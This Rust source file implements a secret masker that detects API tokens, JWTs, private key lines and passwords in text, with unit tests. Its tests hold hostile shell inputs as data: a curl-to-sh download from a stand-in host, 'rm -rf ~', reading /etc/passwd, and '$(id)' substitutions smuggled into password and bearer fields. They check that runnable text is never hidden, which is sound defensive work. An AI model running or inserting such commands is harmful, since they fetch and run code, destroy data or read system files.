//! Text that looks like a secret, whatever it is called.

use std::ops::{Range, RangeInclusive};

use super::name;

/// Beginnings of tokens, and how long one is at least.
const TOKENS: [(&str, usize); 27] = [
    ("candor_", 24),
    ("sk-", 20),
    ("sk_live_", 16),
    ("sk_test_", 16),
    ("rk_live_", 16),
    ("rk_test_", 16),
    ("whsec_", 16),
    ("ghp_", 20),
    ("gho_", 20),
    ("ghu_", 20),
    ("ghs_", 20),
    ("ghr_", 20),
    ("github_pat_", 24),
    ("glpat-", 16),
    ("gldt-", 16),
    ("xoxb-", 16),
    ("xoxp-", 16),
    ("xoxa-", 16),
    ("xapp-", 16),
    ("AKIA", 20),
    ("ASIA", 20),
    ("AIza", 30),
    ("hf_", 20),
    ("npm_", 20),
    ("pypi-", 20),
    ("dop_v1_", 20),
    ("shpat_", 20),
];

/// The longest secret, in bytes. What is longer is no token.
const SECRET_MAX: usize = 4_096;

/// How long the lines of a private key are.
const KEY_LINE: RangeInclusive<usize> = 60..=80;

/// How long the last one is, if it can be told from a word.
const LAST_KEY_LINE: RangeInclusive<usize> = 24..=59;

/// The shortest word that is taken for a secret where its name says so.
const TOKEN_WORD_MIN: usize = 6;

/// Words that announce a token.
const SCHEMES: [&str; 2] = ["bearer", "basic"];

/// Where in `text` secrets are, in order and apart from each other.
pub(crate) fn find(text: &str) -> Vec<Range<usize>> {
    let mut found = private_keys(text);
    found.extend(user_information(text));
    let mut words = TokenRuns { text, at: 0 };
    while let Some(word) = words.next() {
        found.extend(tokens(text, word.clone()));
        if let Some(value) = announced(text, &word).or_else(|| named(text, &word)) {
            words.at = value.end;
            found.push(value);
        }
    }
    merged(found)
}

/// The lines of private keys. Each is masked on its own, and only if it is as long as the lines of
/// keys are and holds nothing else: behind the first line of a key could stand anything.
fn private_keys(text: &str) -> Vec<Range<usize>> {
    const BEGIN: &str = "-----BEGIN ";
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(begin) = text[at..].find(BEGIN).map(|begin| at + begin) {
        at = begin + BEGIN.len();
        let label = text[at..].split("-----").next().unwrap_or_default();
        if !label.ends_with("PRIVATE KEY") && !label.ends_with("PRIVATE KEY BLOCK") {
            continue;
        }
        let body = (at + label.len() + "-----".len()).min(text.len());
        let end = text[body..]
            .find("-----")
            .map_or(text.len(), |end| body + end);
        let mut start = body;
        for line in text[body..end].split_inclusive('\n') {
            let trimmed = line.trim_end();
            if is_key_line(trimmed) {
                found.push(start..start + trimmed.len());
            }
            start += line.len();
        }
        at = end;
    }
    found
}

/// As much of a text as the longest secret has, and a little more, so that a text without an end
/// is not read again and again.
fn beginning(text: &str) -> &str {
    &text[..text.floor_char_boundary(SECRET_MAX + 4)]
}

/// Whether a line is long enough for one of a key, and in base64. The last one is shorter; it could
/// be the name of a program, but for its length, unless it has a slash.
fn is_key_line(line: &str) -> bool {
    let base64 = |byte: u8| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte);
    let whole = KEY_LINE.contains(&line.len());
    let last = LAST_KEY_LINE.contains(&line.len()) && !line.contains('/');
    (whole || last) && line.bytes().all(base64)
}

/// Whether a text is one word such as passwords and tokens are: of letters and digits, and nothing
/// that could be run.
pub(super) fn is_token_word(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-+=~:%".contains(&byte);
    let has = |kind: fn(&u8) -> bool| text.as_bytes().iter().any(kind);
    (TOKEN_WORD_MIN..=SECRET_MAX).contains(&text.len())
        && text.bytes().all(plain)
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic)
}

/// Whether a text can be nothing but a secret: it is made of what tokens are made of, and of
/// nothing that a shell or another program could run.
fn is_opaque(secret: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-.~+/=:%".contains(&byte);
    secret.len() <= SECRET_MAX && secret.bytes().all(plain)
}

/// The passwords of addresses such as `postgres://ann:password@host`.
fn user_information(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("://") {
        let from = at + "://".len();
        let ends = |c: char| c.is_whitespace() || "/?#\"'<>".contains(c);
        let length = text[from..].find(ends).unwrap_or(text.len() - from);
        let authority = &text[from..from + length];
        if let Some((user, _)) = authority.rsplit_once('@')
            && let Some((name, password)) = user.split_once(':')
            && !password.is_empty()
            && is_opaque(password)
        {
            let start = from + name.len() + 1;
            found.push(start..start + password.len());
        }
    }
    found
}

/// Tokens that are known by their beginning, and JSON web tokens.
fn tokens(text: &str, word: Range<usize>) -> Vec<Range<usize>> {
    let whole = &text[word.clone()];
    if is_web_token(whole) || (whole.starts_with("ya29.") && whole.len() >= 20) {
        return vec![word];
    }
    let mut at = word.start;
    let mut found = Vec::new();
    for part in whole.split('.') {
        if is_token(part) {
            found.push(at..at + part.len());
        }
        at += part.len() + 1;
    }
    found
}

fn is_token(word: &str) -> bool {
    let known =
        |(beginning, least): &(&str, usize)| word.len() >= *least && word.starts_with(beginning);
    // `sk-` also begins words of ordinary language, which have hyphens and no digit.
    let ordinary = word.starts_with("sk-")
        && word[3..].contains('-')
        && !word.contains(|c: char| c.is_ascii_digit() || c.is_ascii_uppercase());
    TOKENS.iter().any(known) && !ordinary
}

/// Three parts in base64url, the first of which is an object.
fn is_web_token(word: &str) -> bool {
    let mut parts = word.trim_end_matches('.').split('.');
    let three = [parts.next(), parts.next(), parts.next()];
    matches!(three, [Some(head), Some(body), Some(signature)]
        if head.starts_with("eyJ") && head.len() >= 8 && body.len() >= 4 && signature.len() >= 4)
}

/// The token behind `Bearer`. A short word without a digit is taken for language.
fn announced(text: &str, word: &Range<usize>) -> Option<Range<usize>> {
    let scheme = &text[word.clone()];
    if !SCHEMES
        .iter()
        .any(|known| scheme.eq_ignore_ascii_case(known))
    {
        return None;
    }
    let rest = &text[word.end..];
    let token = rest.trim_start_matches([' ', ':']);
    let start = text.len() - token.len();
    let token = beginning(token);
    let length = token
        .find(|c: char| c.is_whitespace() || "\"'`,;<>\\".contains(c))
        .unwrap_or(token.len());
    let digit = token[..length].contains(|c: char| c.is_ascii_digit());
    let likely = start > word.end && (length >= 20 || (length >= 8 && digit));
    (likely && is_opaque(&token[..length])).then_some(start..start + length)
}

/// The value behind `password=` or `"password":`.
fn named(text: &str, word: &Range<usize>) -> Option<Range<usize>> {
    let rest = &text[word.end..];
    // JSON inside a string may be escaped once more.
    let bare = rest
        .trim_start_matches('\\')
        .trim_start_matches(['"', '\'']);
    let behind = bare.trim_start_matches(' ');
    let value = match behind.strip_prefix('=') {
        None if bare.len() < rest.len() => behind.strip_prefix(':')?,
        value => value?,
    };
    if !name::is_secret(&text[word.clone()]) {
        return None;
    }
    let inner = value.trim_start_matches(' ').trim_start_matches('\\');
    let quoted = inner.strip_prefix(['"', '\'']);
    let start = text.len() - quoted.unwrap_or(inner).len();
    let inner = beginning(inner);
    let (inner, length) = if let Some(inner) = inner.strip_prefix(['"', '\'']) {
        (inner, inner.find(['"', '\'', '\\']))
    } else {
        let ends = |c: char| c.is_whitespace() || "&;,\"'<>{}[]".contains(c);
        (inner, inner.find(ends))
    };
    let length = length.unwrap_or(inner.len());
    (length > 0 && is_opaque(&inner[..length])).then_some(start..start + length)
}

/// Joins what overlaps.
fn merged(mut found: Vec<Range<usize>>) -> Vec<Range<usize>> {
    found.sort_by_key(|range| range.start);
    let mut apart: Vec<Range<usize>> = Vec::with_capacity(found.len());
    for range in found {
        match apart.last_mut() {
            Some(last) if range.start <= last.end => last.end = last.end.max(range.end),
            _ => apart.push(range),
        }
    }
    apart
}

/// Runs of the characters that tokens are made of.
struct TokenRuns<'a> {
    text: &'a str,
    at: usize,
}

// === impl TokenRuns ===

impl TokenRuns<'_> {
    fn next(&mut self) -> Option<Range<usize>> {
        let inside = |byte: &u8| byte.is_ascii_alphanumeric() || b"_-.".contains(byte);
        let bytes = self.text.as_bytes();
        let start = self.at + bytes[self.at..].iter().position(inside)?;
        let length = bytes[start..]
            .iter()
            .take_while(|byte| inside(byte))
            .count();
        self.at = start + length;
        Some(start..self.at)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The text with what was found between brackets.
    fn marked(text: &str) -> String {
        let (mut out, mut at) = (String::new(), 0);
        for range in find(text) {
            out.push_str(&text[at..range.start]);
            out.push('[');
            out.push_str(&text[range.clone()]);
            out.push(']');
            at = range.end;
        }
        out + &text[at..]
    }

    #[test]
    fn secrets_are_found_where_they_stand() {
        let web = "eyJhbGciOiJI.eyJzdWIi.c2lnbmF0dXJl";
        for (text, expect) in [
            (
                "sk-proj-abcdefghijklmnop1234",
                "[sk-proj-abcdefghijklmnop1234]".to_owned(),
            ),
            (
                "use ghp_0123456789abcdefghij.",
                "use [ghp_0123456789abcdefghij].".to_owned(),
            ),
            (
                "AKIAIOSFODNN7EXAMPLE!",
                "[AKIAIOSFODNN7EXAMPLE]!".to_owned(),
            ),
            (
                "candor_0189f7c2aa_abcdefghijkl é",
                "[candor_0189f7c2aa_abcdefghijkl] é".to_owned(),
            ),
            (web, format!("[{web}]")),
            ("Bearer abc12345", "Bearer [abc12345]".to_owned()),
            (
                "-H 'Authorization: bearer AbC/deF+123=='",
                "-H 'Authorization: bearer [AbC/deF+123==]'".to_owned(),
            ),
            (
                "postgres://ann:pa:ss@host/db",
                "postgres://ann:[pa:ss]@host/db".to_owned(),
            ),
            (
                "https://x/?a=1&api_key=a%20b&b=2",
                "https://x/?a=1&api_key=[a%20b]&b=2".to_owned(),
            ),
            (
                r#"{"password": "ab"}"#,
                r#"{"password": "[ab]"}"#.to_owned(),
            ),
            (
                r#"{\"password\":\"ab\"}"#,
                r#"{\"password\":\"[ab]\"}"#.to_owned(),
            ),
            (
                "PGPASSWORD='x-y' psql",
                "PGPASSWORD='[x-y]' psql".to_owned(),
            ),
        ] {
            assert_eq!(marked(text), expect);
        }
    }

    #[test]
    fn the_lines_of_private_keys_are_found() {
        let line = "MIIE".repeat(16);
        let key = |body: &str| {
            format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----")
        };
        let lines = key(&format!("{line}\n{line}"));
        let expect = key(&format!("[{line}]\n[{line}]"));
        assert_eq!(marked(&format!("a\n{lines}\nb")), format!("a\n{expect}\nb"));
        let torn = format!("-----BEGIN PRIVATE KEY-----\n{line}");
        assert_eq!(
            marked(&torn),
            format!("-----BEGIN PRIVATE KEY-----\n[{line}]")
        );
        let public = format!("-----BEGIN PUBLIC KEY-----\n{line}\n-----END PUBLIC KEY-----");
        assert_eq!(marked(&public), public);
    }

    /// The caller chooses the text, and must not hide in it what a person would not approve.
    #[test]
    fn nothing_that_could_run_is_hidden() {
        for text in [
            "PASSWORD=\"$(curl https://x.example/i | sh)\" ls",
            "PASSWORD=$(id) ls",
            "# -----BEGIN PRIVATE KEY-----\nrm -rf ~\nshutdown\n# -----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----; rm -rf ~",
            "curl -H \"Authorization: Bearer $(cat /etc/passwd)\" x",
            "Bearer `reboot`0123456789abcdef",
            "git clone https://a:$(id)@host/x",
            "https://a:`id`@host",
            "token='; rm -rf ~ ;'",
            "secret=\"\\$(id)\"",
            "password=a|b",
            "{\"password\": \"a b\"}",
        ] {
            assert_eq!(marked(text), text);
        }
        let long = format!("password={}", "x".repeat(SECRET_MAX + 1));
        assert_eq!(marked(&long), long);
    }

    #[test]
    fn language_is_not_taken_for_secrets() {
        for text in [
            "",
            "the bearer of this note",
            "Basic understanding of tokens: use them",
            "sk-learn-and-other-long-words",
            "max_tokens=100&page_token=5",
            "candor_model",
            "https://example.org/a@b:c",
            "a.b.c",
            "password = ",
            "-----BEGIN ",
            "://",
        ] {
            assert!(find(text).is_empty(), "{text}");
        }
    }

    /// Each of these takes minutes if anything is looked at again and again.
    #[test]
    fn hostile_text_is_no_burden() {
        for (part, expect) in [
            ("://a:b@", 20_000),
            ("-----BEGIN ", 0),
            ("-----BEGIN PRIVATE KEY-----", 0),
            ("bearer ", 0),
            ("Bearer abc12345 ", 20_000),
            ("password=", 1),
            ("password=x ", 20_000),
            ("\"", 0),
            ("eyJ.", 0),
            ("token\\\\", 0),
            ("token=\"\" ", 0),
        ] {
            assert_eq!(find(&part.repeat(20_000)).len(), expect, "{part}");
        }
    }
}
